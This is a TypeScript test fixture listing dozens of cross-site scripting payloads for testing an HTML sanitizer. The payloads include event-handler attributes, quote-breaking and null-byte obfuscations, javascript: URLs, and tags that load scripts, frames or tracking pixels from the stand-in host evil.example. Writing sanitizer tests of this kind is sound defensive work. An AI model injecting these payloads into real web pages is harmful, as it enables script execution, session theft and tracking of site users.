/** Script in each attribute that takes one, on elements that stay and on elements that go. */
export const SCRIPTS: string[] = [
  ...handlers().map((name) => `<p ${name}="alert(1)">kept</p>`),
  ...["abort", "error", "load", "toggle"].map(
    (name) => `<a on${name.toUpperCase()}=alert(1)>kept</a>`,
  ),
  `<p/onclick=alert(1)>kept</p>`,
  `<p\fonclick=alert(1)>kept</p>`,
  `<p\vonclick=alert(1)>kept</p>`,
  `<p\u00A0onclick=alert(1)>kept</p>`,
  `<p title=x\u2028onclick=alert(1)>kept</p>`,
  `<p onclick\u0000="alert(1)">kept</p>`,
  `<p on\u0000click="alert(1)">kept</p>`,
  `<p onclick = "alert(1)">kept</p>`,
  `<p onclick='alert(1)' onclick="alert(2)">kept</p>`,
  `<p "onclick="alert(1)">kept</p>`,
  `<p ="onclick=alert(1)">kept</p>`,
  `<p title="x"onclick="alert(1)">kept</p>`,
  `<p title='x" onclick="alert(1)'>kept</p>`,
  "<p title=`x onclick=alert(1)`>kept</p>",
  `<p title="&quot; onclick=&quot;alert(1)">kept</p>`,
  `<p title="&#34;&#62;&#60;img src=x onerror=alert(1)&#62;">kept</p>`,
  `<p title="-->&lt;img src=x onerror=alert(1)>">kept</p>`,
  `<time datetime='"><svg/onload=alert(1)>'>kept</time>`,
  `<abbr title="</abbr><script>alert(1)</script>">kept</abbr>`,
  `<ol start="1&quot; onfocus=&quot;alert(1)"><li value='"><script>alert(1)</script>'>kept</li></ol>`,
  `<pre data-language='ruby" onclick="alert(1)'>kept</pre>`,
  `<td headers="x" onmouseover=alert(1)>kept</td>`,
  `<a href="#" onclick=alert(1) href="javascript:alert(1)">kept</a>`,
  `<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">kept</a>`,
  `kept<script>alert(1)//lost</script>`,
  `kept<script type=text/plain>lost</script>`,
  `kept<script type=module>import "https://evil.example/x.js"//lost</script>`,
  `kept<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example"]}]}</script>`,
  `kept<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>`,
  `kept<script src="https://evil.example/x.js" async></script>`,
  `kept<script><!-- alert(1) //--></script>kept`,
  `kept<script>'</script><script>'+alert(1)//</script>`,
  `kept<SCRIPT\u0000>alert(1)</SCRIPT>`,
  `kept<noscript><img src=x onerror=alert(1)></noscript>`,
  `kept<img src="https://evil.example/pixel.gif">`,
  `kept<img srcset="https://evil.example/pixel.gif 2x">`,
  `kept<picture><source srcset="https://evil.example/pixel.gif"><img></picture>`,
  `kept<input type=image src="https://evil.example/x.gif" onerror=alert(1)>`,
  `kept<video poster="https://evil.example/x.gif" autoplay><source src="https://evil.example/x"></video>`,
  `kept<audio src="https://evil.example/x.mp3" autoplay></audio>`,
  `kept<track src="https://evil.example/x.vtt">`,
  `kept<object data="https://evil.example/x.swf"><param name=movie value=x></object>`,
  `kept<embed src="https://evil.example/x.swf" allowscriptaccess=always>`,
  `kept<iframe src="https://evil.example"></iframe>`,
  `kept<frameset><frame src="javascript:alert(1)"></frameset>`,
  `kept<portal src="https://evil.example"></portal>`,
  `kept<fencedframe src="https://evil.example"></fencedframe>`,
  `kept<bgsound src="javascript:alert(1)">`,
  `kept<isindex action="javascript:alert(1)" type=image>`,
  `kept<keygen autofocus onfocus=alert(1)>`,
  `kept<meter onmouseover=alert(1)>kept</meter>`,
  `<blink onclick=alert(1)>kept</blink><center onclick=alert(1)>kept</center>`,
  `<menu><menuitem onclick=alert(1)>kept</menuitem></menu>`,
  `<dialog open onclose=alert(1)>kept</dialog>`,
  `<button popovertarget=x>kept</button><p popover id=x onbeforetoggle=alert(1)>kept</p>`,
  `<label for=composer onclick=alert(1)>kept</label>`,
  `<output name=x onforminput=alert(1)>kept</output>`,
]

function handlers() {
  return (
    "onclick ondblclick onmousedown onmouseenter onmouseover onpointerdown onpointerrawupdate " +
    "onfocus onfocusin onblur onkeydown onload onerror onanimationstart onanimationend " +
    "ontransitionend ontransitionrun onbeforeinput onbeforetoggle oncopy oncut onpaste " +
    "oncontentvisibilityautostatechange onscroll onscrollend onscrollsnapchange onsecuritypolicyviolation " +
    "onselectstart onsubmit ontoggle onwheel onwebkitanimationend"
  ).split(" ")
}
